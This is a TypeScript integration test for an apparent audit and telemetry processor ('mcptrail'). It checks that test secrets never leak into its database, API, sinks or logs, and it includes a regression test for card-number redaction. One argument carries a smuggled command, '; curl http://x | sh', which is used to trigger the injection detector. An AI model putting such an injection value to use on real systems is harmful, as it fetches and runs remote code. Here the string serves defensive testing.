/**
 * The shared secret corpus, sent in span attributes and audit log records through the real
 * OTel exporters to a real `mcptrail serve` process, must not come out anywhere: the SQLite
 * file (and its WAL), the API's answers, the sinks (file, webhook and OTLP logs receivers on
 * loopback, stdout) or the processor's own stderr.
 */
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { ATTR_MCP_ERROR_MESSAGE } from '@mcptrail/conventions';
import { afterAll, describe, expect, it } from 'vitest';
import { findLeaks, SECRET_CORPUS, secretArgs } from '../../../redact/test/fixtures/secret-corpus';
import { loadConfig } from '../../src/config/sources';
import { createLogger } from '../../src/logger';
import { startProcessor } from '../../src/service';
import { run, serve } from '../cli/spawn';
import { captureServer } from './helpers';
import { createEmitter } from './telemetry';

// Spawns the built CLI: run `npx tsc -b` in packages/processor first.
const dir = mkdtempSync(path.join(tmpdir(), 'mcptrail-secrets-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function bytesOf(file: string): Buffer {
  return existsSync(file) ? readFileSync(file) : Buffer.alloc(0);
}

describe('secret corpus never leaves the processor', () => {
  it('is absent from the store, WAL, API, sinks and stderr', async () => {
    // Control: the detector sees every corpus value when it is there.
    for (const { kind, value } of SECRET_CORPUS) expect(findLeaks(`x ${value} y`), kind).not.toEqual([]);

    const webhook = await captureServer();
    // The logs backend refuses the first export with the corpus in its error body: the
    // exporter's error (and so the processor's log line about it) carries the secrets.
    const refusal = JSON.stringify({ code: 3, message: `rejected: ${SECRET_CORPUS.map((s) => s.value).join(' ')}` });
    const otlp = await captureServer((n) => (n === 0 ? { status: 400, body: refusal } : 200));
    const db = path.join(dir, 'secrets.db');
    const sinkFile = path.join(dir, 'sink.ndjson');
    const config = path.join(dir, 'config.yaml');
    writeFileSync(
      config,
      [
        'log_level: debug',
        'trail:',
        '  pairing_window_ms: 200',
        'sinks:',
        '  stdout: { alerts: true, records: true }',
        `  file: { path: ${JSON.stringify(sinkFile)}, records: true }`,
        `  webhook: { url: ${JSON.stringify(`${webhook.url}/hook`)}, records: true, backoff_ms: 10 }`,
        `  otlp: { endpoint: ${JSON.stringify(`${otlp.url}/v1/logs`)}, records: true, protocol: http/json }`,
        '',
      ].join('\n'),
    );
    const served = await serve(['--port', '0', '--db', db, '--config', config], { MCPTRAIL_WEBHOOK_SECRET: 'webhook-hmac-key-0001' });

    const values = SECRET_CORPUS.map((s) => s.value);
    const emitter = createEmitter(served.url, { format: 'proto', gzip: true });
    // Arguments (nested under sensitive and innocuous keys, plus shell metacharacters so
    // argument-injection fires and its alert goes through every sink too), error messages,
    // free-form attributes.
    emitter.call({ tool: 'store_credentials', session: 'sec-1', args: { profile: secretArgs(), notes: values, cmd: '; curl http://x | sh' } });
    emitter.call({
      tool: 'explode',
      session: 'sec-1',
      outcome: 'tool_error',
      args: { q: values.join(' | ') },
      extra: { [ATTR_MCP_ERROR_MESSAGE]: `upstream refused: ${values.join(' | ')}`, 'app.note': values.join('\n') },
    });
    values.forEach((v, i) => {
      emitter.call({ tool: `t${i % 3}`, session: `sec-${i}`, args: { value: v }, extra: { 'custom.value': v } });
    });
    await emitter.shutdown();

    // Let the pairing window pass, then read everything the API serves.
    const answers: string[] = [];
    for (let i = 0; i < 400; i++) {
      const res = await fetch(`${served.url}/api/audit?limit=1000`);
      const text = await res.text();
      if ((JSON.parse(text) as { count: number }).count >= values.length + 2) {
        answers.push(text);
        break;
      }
      await new Promise((r) => setTimeout(r, 50));
    }
    expect(answers).toHaveLength(1);
    // Detection folds records in after they are sealed (another thread seals them): wait for its alerts.
    for (let i = 0; i < 100 && !(await (await fetch(`${served.url}/api/alerts?limit=1000`)).text()).includes('argument-injection'); i++) {
      await new Promise((r) => setTimeout(r, 50));
    }
    for (const route of ['/api/alerts?limit=1000', '/api/baselines?limit=1000', '/api/verify', '/healthz']) {
      answers.push(await (await fetch(`${served.url}${route}`)).text());
    }
    expect(answers.join('')).toContain('argument-injection');
    const walWhileRunning = bytesOf(`${db}-wal`);

    served.child.kill('SIGTERM');
    expect((await served.exited).code).toBe(0);
    await webhook.close();
    await otlp.close();

    const query = await run(['query', '--db', db, '--json', '--limit', '1000']);
    const exported = await run(['export', '--db', db]);
    expect(exported.stdout.split('\n').filter(Boolean).length).toBe(values.length + 2);

    const places: Record<string, string | Buffer> = {
      'sqlite file': bytesOf(db),
      'sqlite WAL (running)': walWhileRunning,
      'sqlite WAL (stopped)': bytesOf(`${db}-wal`),
      'API answers': answers.join('\n'),
      'file sink': bytesOf(sinkFile),
      'webhook bodies': Buffer.concat(webhook.requests.map((r) => r.body)),
      'OTLP logs bodies': Buffer.concat(otlp.requests.map((r) => r.body)),
      'stdout sink': served.stdout(),
      'processor stderr': served.stderr(),
      'mcptrail query': query.stdout + query.stderr,
      'mcptrail export': exported.stdout + exported.stderr,
    };
    // The sinks really carried records and alerts (otherwise "no leak" would prove nothing).
    expect(webhook.requests.length).toBeGreaterThan(0);
    expect(otlp.requests.length).toBeGreaterThan(0);
    expect(String(places['file sink'])).toContain('mcptrail.audit.record');
    expect(String(places['stdout sink'])).toContain('mcptrail.alert');
    expect(String(places['processor stderr'])).toContain('MCPTRAIL_ERR_SINK_OTLP_EXPORT');
    expect(String(places['processor stderr'])).toContain('rejected: '); // the refusal body reached the log line

    const leaks = Object.fromEntries(Object.entries(places).map(([where, bytes]) => [where, findLeaks(bytes)]));
    expect(leaks).toEqual(Object.fromEntries(Object.keys(places).map((k) => [k, []])));
  }, 120_000);
});

describe('known redaction gap', () => {
  // @mcptrail/redact used to miss a spaced card number when a digit preceded it
  // (redactText('0 4111 1111 1111 1111')); fixed in the card rule, kept as a regression test.
  it('space-joined corpus in one argument is fully redacted', async () => {
    const dirp = mkdtempSync(path.join(tmpdir(), 'mcptrail-secrets-joined-'));
    const p = await startProcessor(loadConfig({ flags: { db: path.join(dirp, 'j.db'), port: '0' } }), {
      logger: createLogger({ level: 'silent', redactor: null }),
    });
    try {
      const emitter = createEmitter(p.url, { format: 'json', gzip: false });
      emitter.call({ tool: 'search', session: 'joined', args: { q: SECRET_CORPUS.map((s) => s.value).join(' ') } });
      await emitter.shutdown();
      await p.pipeline.flush();
      const records = await p.store.query({ session_id: 'joined' });
      expect(records).toHaveLength(1);
      expect(findLeaks(JSON.stringify(records))).toEqual([]);
    } finally {
      await p.close();
      rmSync(dirp, { recursive: true, force: true });
    }
  });
});
